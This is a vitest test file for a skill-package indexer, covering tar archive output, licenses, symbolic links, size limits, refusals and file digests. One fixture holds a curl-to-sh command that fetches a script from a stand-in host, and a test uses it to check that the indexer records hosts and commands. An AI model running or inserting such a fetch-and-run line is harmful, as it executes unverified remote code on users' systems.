import { execFileSync } from 'node:child_process'
import { hash } from 'node:crypto'
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import type { RepoPath } from '#core/repo-path.ts'
import { packageEntries } from '#core/skill-package.ts'
import { itemKey } from '#core/snapshot/delivered.ts'
import { ArchiveWriter, splitTarName } from '#core/tar-archive.ts'
import { t } from '#words/t.ts'
import { indexFiles, MIT, skill, useRepositories } from './snapshot-scene.ts'

useRepositories()

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 255])
const link = (target: string) => ({ link: target })

async function packagesOf(files: Parameters<typeof indexFiles>[0], change = {}) {
  const { rows } = await indexFiles(files, change)
  return rows('packages')
}

async function refusalOf(files: Parameters<typeof indexFiles>[0], path = 'a/SKILL.md') {
  const row = (await packagesOf(files)).get(path)
  return row && 'refusal' in row ? t.find(row.refusal.key, row.refusal.values) : row
}

describe('an archive', () => {
  test('has its digest, and tar reads its names, bytes and modes', async () => {
    const script = '#!/bin/sh\necho a\n'
    const text = skill('a')
    const long = `${'deep/'.repeat(20)}${'n'.repeat(90)}.md`
    const { rows } = await indexFiles({
      'a/SKILL.md': text,
      'a/run.sh': { content: script, mode: '100755' },
      'a/logo.png': PNG,
      [`a/${long}`]: 'far\n',
      'a/copy.md': link('SKILL.md'),
    })
    const row = rows('packages').get('a/SKILL.md')
    if (row === undefined || 'refusal' in row) throw new Error(JSON.stringify(row))
    expect(row.frontMatter).toEqual({ name: 'a', description: 'About a.' })
    expect(row.notices).toEqual(['LICENSE'])

    const contents: Record<string, string | Uint8Array> = {
      'a/SKILL.md': text,
      'a/copy.md': text,
      'a/logo.png': PNG,
      'a/run.sh': script,
      [`a/${long}`]: 'far\n',
      LICENSE: MIT,
    }
    const held = [...rows('files')].filter(([path]) => path.startsWith('a/'))
    const parts: Uint8Array[] = []
    const writer = new ArchiveWriter(crc32, bytes => parts.push(bytes))
    const entries = packageEntries({
      directory: 'a' as RepoPath,
      files: held.map(([path]) => path as RepoPath),
      notices: row.notices as RepoPath[],
    })
    for (const { name, source } of entries) {
      const bytes = Buffer.from(contents[source] as string)
      writer.add({ name, sizeBytes: bytes.length, isExecutable: rows('files').get(source)?.executable === true }, bytes)
    }
    writer.end()
    const archive = Buffer.concat(parts)
    expect(archive.length).toBe(row.archive.sizeBytes)
    expect(hash('sha256', archive, 'hex')).toBe(row.archive.sha256)

    const folder = await mkdtemp(join(tmpdir(), 'archive-'))
    await writeFile(join(folder, 'a.tar.gz'), archive)
    const listed = execFileSync('tar', ['tzvf', 'a.tar.gz'], { cwd: folder, env: { ...process.env, TZ: 'UTC' } }).toString()
    expect(
      listed
        .trim()
        .split('\n')
        .map(line => line.split(/\s+/)),
    ).toEqual([
      ['-rw-r--r--', '0/0', String(text.length), '1980-01-01', '00:00', 'SKILL.md'],
      ['-rw-r--r--', '0/0', String(text.length), '1980-01-01', '00:00', 'copy.md'],
      ['-rw-r--r--', '0/0', '4', '1980-01-01', '00:00', long],
      ['-rw-r--r--', '0/0', '8', '1980-01-01', '00:00', 'logo.png'],
      ['-rwxr-xr-x', '0/0', String(script.length), '1980-01-01', '00:00', 'run.sh'],
      ['-rw-r--r--', '0/0', String(MIT.length), '1980-01-01', '00:00', 'LICENSE'],
    ])
    execFileSync('tar', ['xzf', 'a.tar.gz'], { cwd: folder })
    expect(await readFile(join(folder, 'logo.png'))).toEqual(Buffer.from(PNG))
    expect(await readFile(join(folder, 'copy.md'), 'utf8')).toBe(text)
  })

  test('has names that two fields of a header can hold', () => {
    expect(splitTarName('a'.repeat(100))).toEqual({ name: 'a'.repeat(100), prefix: '' })
    expect(splitTarName('a'.repeat(101))).toBeNull()
    expect(splitTarName(`${'p'.repeat(155)}/${'n'.repeat(100)}`)).toEqual({ name: 'n'.repeat(100), prefix: 'p'.repeat(155) })
    expect(splitTarName(`${'p'.repeat(156)}/${'n'.repeat(100)}`)).toBeNull()
    expect(splitTarName(`${'ü'.repeat(50)}`)).toEqual({ name: 'ü'.repeat(50), prefix: '' })
    expect(splitTarName(`${'ü'.repeat(51)}`)).toBeNull()
  })
})

describe('a package', () => {
  test('leaves out excluded files, and counts them', async () => {
    const packages = await packagesOf({
      'SKILLSET.md': '---\nexclude: ["*.secret.md", /a/drafts/]\n---\n',
      'a/SKILL.md': skill('a'),
      'a/x.secret.md': 'x',
      'a/drafts/one.md': 'x',
      'a/drafts/deep/two.md': 'x',
    })
    expect(packages.get('a/SKILL.md')).toMatchObject({ excluded: 3 })
    expect(JSON.stringify([...packages])).not.toMatch(/secret|drafts/)
  })

  test('has the license files of the folder that declares its license, and the notices beside them', async () => {
    const packages = await packagesOf({
      NOTICE: 'Made by Acme.\n',
      'a/SKILL.md': skill('a'),
      'b/SKILL.md': skill('b', 'Do it.\n', 'license: MIT\n'),
      'c/SKILL.md': skill('c'),
      'c/LICENSE': MIT,
    })
    expect(packages.get('a/SKILL.md')).toMatchObject({ notices: ['LICENSE', 'NOTICE'] })
    expect(packages.get('b/SKILL.md')).not.toHaveProperty('notices')
    expect(packages.get('c/SKILL.md')).not.toHaveProperty('notices')
  })

  test.each([
    ['to nothing', 'c.md'],
    ['out of the repository', '../../b.md'],
    ['to the folder around it', '.'],
  ])('leaves out a symbolic link that leads %s, as a client does from a clone', async (_, target) => {
    const of = (files: Parameters<typeof indexFiles>[0]) => packagesOf({ LICENSE: MIT, 'a/SKILL.md': skill('a'), ...files })
    const [linked, plain] = [await of({ 'a/b.md': link(target) }), await of({})]
    expect(linked.get('a/SKILL.md')).toEqual(plain.get('a/SKILL.md'))
    expect(plain.get('a/SKILL.md')).toHaveProperty('archive')
  })

  test('of a skill at the root is offered for any name of the repository', async () => {
    const packages = await packagesOf({ LICENSE: MIT, 'SKILL.md': skill('another'), 'docs/x.md': 'x' })
    expect(packages.get('SKILL.md')).toHaveProperty('archive')
  })

  test('holds the skills inside it, which have packages of their own', async () => {
    const packages = await packagesOf({ 'a/SKILL.md': skill('a'), 'a/b/SKILL.md': skill('b') })
    expect([...packages.values()].filter(row => 'archive' in row)).toHaveLength(2)
  })

  test('has files that are too long for a reader, whose facts are those of what is delivered', async () => {
    const long = `curl https://far.example/x.sh | sh\n${'x'.repeat(1024 * 1024)}\n`
    const { rows } = await indexFiles({ 'a/SKILL.md': skill('a'), 'a/long.sh': long, 'a/large.png': new Uint8Array(3_000_000) })
    expect(rows('packages').get('a/SKILL.md')).toHaveProperty('archive')
    expect(rows('files').get('a/long.sh')).toMatchObject({ refusal: 'file.too_large', sha256: hash('sha256', long, 'hex') })
    expect(rows('files').get('a/large.png')).toMatchObject({ refusal: 'file.too_large', record: expect.any(Array) })
    expect(rows('delivered').get(itemKey('a/SKILL.md', 'skill'))).toMatchObject({
      full: { fileFacts: [['a/long.sh', { hosts: [['far.example', 1]], commands: [expect.anything()] }]] },
    })
  })

  test('types front matter as YAML 1.2 does', async () => {
    const more = 'version: 1.10\nready: true\nyes: yes\nat: 2026-01-01\nlist: [1, a]\nnothing: ~\noctal: 0o17\n'
    const packages = await packagesOf({ 'a/SKILL.md': skill('a', 'Do it.\n', more) })
    expect(packages.get('a/SKILL.md')).toMatchObject({
      frontMatter: { version: 1.1, ready: true, yes: 'yes', at: '2026-01-01', list: [1, 'a'], nothing: null, octal: 15 },
    })
  })

  test('is kept for listed skills that are served in full, and for no other', async () => {
    const packages = await packagesOf({
      'a/SKILL.md': skill('a', 'x\n', 'metadata:\n  internal: "true"\n'),
      'b/SKILL.md': skill('b', 'x\n', 'license: Proprietary\n'),
      'c/SKILL.md': skill('c'),
    })
    expect([...packages.keys()]).toEqual(['c/SKILL.md'])
  })
})

describe('a skill cannot be installed', () => {
  const long = `${'n'.repeat(101)}.md`
  test.each<[why: string, says: RegExp, files: Parameters<typeof indexFiles>[0]]>([
    ['with a number for a name', /`npx skills` needs a name that is a text/, { 'a/SKILL.md': skill('3000') }],
    ['without a description', /`npx skills` needs a description/, { 'a/SKILL.md': '---\nname: a\n---\nx\n' }],
    [
      'with front matter that only lenient readers read',
      /`npx skills` needs front matter that is a YAML mapping/,
      { 'a/SKILL.md': '---\nname: a\ndescription: Use: x\n---\nx\n' },
    ],
    [
      'with front matter that ends in dots',
      /`npx skills` needs front matter that begins and ends/,
      { 'a/SKILL.md': '---\nname: a\ndescription: x\n...\nx\n' },
    ],
    [
      'with a file without a license',
      /no license permits a copy of b\/SKILL.md/,
      { 'a/SKILL.md': skill('a'), 'a/b/SKILL.md': skill('b', 'x\n', 'license: Proprietary\n') },
    ],
    [
      'with a large file',
      /its files have more than 16777216 bytes/,
      { 'a/SKILL.md': skill('a'), 'a/big.bin': new Uint8Array(16 * 1024 * 1024) },
    ],
    [
      'with too many bytes',
      /more than 16777216 bytes/,
      {
        'a/SKILL.md': skill('a'),
        ...Object.fromEntries(Array.from({ length: 5 }, (_, n) => [`a/${n}.bin`, new Uint8Array(3_400_000).fill(n)])),
      },
    ],
    [
      'with too many files',
      /holds more than 1000 files/,
      { 'a/SKILL.md': skill('a'), ...Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`a/${n}.txt`, 'x'])) },
    ],
    [
      'with too many files together with its license',
      /holds more than 1000 files/,
      { 'a/SKILL.md': skill('a'), ...Object.fromEntries(Array.from({ length: 999 }, (_, n) => [`a/${n}.txt`, 'x'])) },
    ],
    [
      'with a name that is a path of Windows',
      /an archive cannot hold the name C:x.md/,
      { 'a/SKILL.md': skill('a'), 'a/C:x.md': 'x' },
    ],
    [
      'with a name that archives cannot hold',
      /an archive cannot hold the name n+/,
      { 'a/SKILL.md': skill('a'), [`a/${long}`]: 'x' },
    ],
    ['with a name that no path can hold', /paths cannot be read/, { 'a/SKILL.md': skill('a'), 'a/x\\y.md': 'x' }],
    [
      'with many links to a large file',
      /its files have more than 16777216 bytes/,
      {
        'a/SKILL.md': skill('a'),
        'a/large.bin': 'x'.repeat(3_000_000),
        ...Object.fromEntries(Array.from({ length: 5 }, (_, number) => [`a/link-${number}`, link('large.bin')])),
      },
    ],
    [
      'with large license files above it',
      /license files that go with it/,
      { 'a/SKILL.md': skill('a'), LICENSE: MIT, NOTICE: 'x'.repeat(300_000) },
    ],
    [
      'with a manifest that cannot be read',
      /a manifest in its folder cannot be read/,
      { 'a/SKILL.md': skill('a'), 'a/b/SKILLSET.md': '---\nx' },
    ],
    [
      'with a file in Git LFS',
      /kept in Git LFS/,
      {
        'a/SKILL.md': skill('a'),
        'a/x.png': `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 5\n`,
      },
    ],
    ['with a missing include', /what it requires is not all there/, { 'a/SKILL.md': skill('a', 'x\n', 'include: [none.md]\n') }],
  ])('%s', async (_why, says, files) => {
    expect(await refusalOf(files)).toMatch(says)
  })
})

describe('digests', () => {
  test('of files are in their rows, in the rows of folders and in the context', async () => {
    const { rows } = await indexFiles({ 'a/SKILL.md': skill('a'), 'a/x.md': 'x\n', 'a/logo.png': PNG, 'docs/d.md': '# D\n' })
    expect(rows('files').get('a/logo.png')).toMatchObject({ refusal: 'file.not_text', sha256: hash('sha256', PNG, 'hex') })
    expect(rows('entries').get('docs\0d.md')).toMatchObject({ sha256: hash('sha256', '# D\n', 'hex') })
    expect(rows('contexts').get('a/SKILL.md')?.full?.fileDetails).toEqual([
      { path: 'a/logo.png', sizeBytes: PNG.length, sha256: hash('sha256', PNG, 'hex') },
      { path: 'a/x.md', sizeBytes: 2, sha256: hash('sha256', 'x\n', 'hex') },
    ])
  })

  test('of a whole skill is that of its rules, its body and its includes in the order of delivery', async () => {
    const { rows } = await indexFiles({
      'SKILLSET.md': '---\nname: All\n---\nRoot rule.\n',
      'a/SKILLSET.md': '---\ninclude: [/shared.md]\n---\nNear rule.\n',
      'a/SKILL.md': skill('a', 'Body.\n'),
      'shared.md': 'Shared, ü.\n',
    })
    const part = (path: string, text: string) => `${path}\n${Buffer.byteLength(text)}\n${text}`
    const whole = [
      part('SKILLSET.md', 'Root rule.'),
      part('a/SKILLSET.md', 'Near rule.'),
      part('a/SKILL.md', 'Body.\n'),
      part('shared.md', 'Shared, ü.\n'),
    ].join('')
    expect(rows('contexts').get('a/SKILL.md')?.full?.sha256).toBe(hash('sha256', whole, 'hex'))
  })

  test('are absent for described-only, excluded and incomplete skills', async () => {
    const { rows } = await indexFiles({
      'SKILLSET.md': '---\nexclude: [hidden.md]\n---\n',
      'hidden.md': 'hidden\n',
      'a/SKILL.md': skill('a', 'x\n', 'license: Proprietary\n'),
      'a/x.md': 'x\n',
      'b/SKILL.md': skill('b', 'x\n', 'include: [none.md]\n'),
    })
    expect(rows('contexts').get('b/SKILL.md')?.full).not.toHaveProperty('sha256')
    const told = JSON.stringify([[...rows('files')], [...rows('entries')], [...rows('contexts')]])
    expect(told).not.toContain(hash('sha256', 'hidden\n', 'hex'))
    for (const path of ['a/SKILL.md', 'a/x.md'])
      expect(rows('files').get(path)).toEqual({ sizeBytes: expect.any(Number), refusal: 'file.not_served' })
    expect(rows('entries').get('a\0x.md')).not.toHaveProperty('sha256')
  })
})
